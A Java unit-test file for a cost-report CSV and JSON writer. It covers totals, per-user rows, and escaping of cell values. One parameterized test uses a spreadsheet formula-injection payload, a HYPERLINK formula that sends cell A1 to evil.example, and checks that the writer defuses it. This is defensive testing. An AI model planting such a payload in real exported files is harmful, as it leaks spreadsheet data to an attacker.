package dev.sluice.usage;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.sluice.chat.ErrorCategory;
import dev.sluice.json.JsonValue;
import dev.sluice.money.Money;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.jspecify.annotations.NullMarked;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

@NullMarked
final class ReportCsvTest {
  private static final Spend SPEND = new Spend(3, 1, 30, 12, Money.ofNanos(1_230), 1);

  @Test
  void aReportIsALineForTheTotalAndOneForEachRow() {
    assertEquals(
        """
        period,dimension,name,requests,errors,input_tokens,output_tokens,cost_usd,unpriced_requests\r
        2026-11-24,total,,3,1,30,12,0.00000123,1\r
        2026-11-24,user,acme/ada,3,1,30,12,0.00000123,1\r
        """,
        csv(report("acme/ada")));
  }

  @Test
  void whatHasNoRowOfItsOwnSaysHowManyItIs() {
    CostReport two =
        new CostReport(
            period(),
            Instant.EPOCH,
            SPEND,
            Map.of(
                Dimension.TASK,
                List.of(
                    new CostReport.Row(Optional.empty(), 0, SPEND),
                    new CostReport.Row(Optional.empty(), 12, SPEND))),
            Map.of());
    List<String> lines = csv(two).lines().toList();
    assertEquals("2026-11-24,task,,3,1,30,12,0.00000123,1", lines.get(2));
    assertEquals("2026-11-24,task,(12 others),3,1,30,12,0.00000123,1", lines.get(3));
  }

  /** The third is what a spreadsheet would send away. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "plain|plain",
        "a,b|\"a,b\"",
        "=HYPERLINK(\"http://evil.example?\"&A1)|\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1)\"",
        "+1|\"'+1\"",
        "-1|\"'-1\"",
        "@SUM(A1)|\"'@SUM(A1)\"",
        "＝1|\"'＝1\"",
        "a=1|a=1",
        "say \"hi\"|\"say \"\"hi\"\"\"",
      })
  void aNameIsNeverAFormulaNorMoreThanOneCell(String name, String cell) {
    String line = csv(report(name)).lines().toList().getLast();
    assertEquals("2026-11-24,user," + cell + ",3,1,30,12,0.00000123,1", line);
  }

  @Test
  void theSameInJsonHasAllDigits() {
    JsonValue json = ReportJson.write(report("acme/ada"));
    assertEquals("2026-11-24", json.get("period").stringOr(""));
    assertEquals("2026-11-25T00:00:00Z", json.get("until").stringOr(""));
    assertEquals("0.00000123", json.path("total", "cost").toString());
    assertEquals("{\"upstream_timeout\":1}", json.get("errors_by_category").toString());
    JsonValue row = json.path("by", "user").at(0);
    assertEquals("acme/ada", row.get("name").stringOr(""));
    assertEquals("1", row.get("unpriced_requests").toString());
    assertEquals("[]", json.path("by", "tenant").toString());
    assertEquals("false", json.get("complete").toString());
  }

  private static String csv(CostReport report) {
    return new String(ReportCsv.write(report), StandardCharsets.UTF_8);
  }

  private static CostReport report(String user) {
    return new CostReport(
        period(),
        Instant.EPOCH,
        SPEND,
        Map.of(Dimension.USER, List.of(new CostReport.Row(Optional.of(user), 0, SPEND))),
        Map.of(ErrorCategory.UPSTREAM_TIMEOUT, 1L));
  }

  private static ReportPeriod period() {
    return new ReportPeriod(
        "2026-11-24", Instant.parse("2026-11-24T00:00:00Z"), Instant.parse("2026-11-25T00:00:00Z"));
  }
}
